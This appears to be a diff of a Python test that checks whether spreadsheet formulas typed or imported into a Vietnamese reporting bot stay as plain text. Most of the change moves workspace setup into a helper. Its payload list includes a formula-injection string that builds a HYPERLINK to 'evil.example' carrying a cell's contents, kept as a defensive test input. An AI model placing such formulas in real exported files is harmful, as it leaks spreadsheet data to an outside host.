@@ -21,31 +21,13 @@ from domain.obligations import obligations_owed
 from domain.periods import Period
 from domain.tickets import Ticket
 from storage import Database
-from tests.support.paths import REPO_ROOT
+from tests.support.offices import write_office
 
 PERIOD = Period(2022, 2)
 NOW = datetime(2022, 2, 17, 9, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
-CONFIG = (REPO_ROOT / "bot" / "workspace" / "starter" / "config.toml").read_text(encoding="utf-8")
 UNITS = "mã đơn vị,tên đơn vị,nhóm,biểu mẫu\n" + "".join(
     f"U{i},UBND xã {i},Xã,bc\n" for i in range(12)
 )
-FORM = """[form]
-code = "bc"
-title = "Báo cáo"
-
-[[fields]]
-key = "so"
-question = "Số hồ sơ?"
-label = "hồ sơ"
-type = "integer"
-measure = "hồ sơ"
-
-[[fields]]
-key = "ghi_chu"
-question = "Ghi chú?"
-type = "text"
-required = false
-"""
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
     "=1+1",
@@ -65,11 +47,7 @@ PAYLOADS = [
 async def test_typed_and_imported_formulas_stay_text(
     tmp_path: Path, figures: Callable[[str], None]
 ) -> None:
-    (tmp_path / "forms").mkdir()
-    (tmp_path / "config.toml").write_text(CONFIG, encoding="utf-8")
-    (tmp_path / "units.csv").write_text(UNITS, encoding="utf-8")
-    (tmp_path / "forms" / "bc.toml").write_text(FORM, encoding="utf-8")
-    workspace = load_workspace(tmp_path / "config.toml")
+    workspace = load_workspace(write_office(tmp_path, UNITS))
     db = await Database.open(tmp_path / "t.sqlite3", synchronous="OFF")
     cutoff = period_window(PERIOD, workspace.settings.regime)[1]
     tickets = [
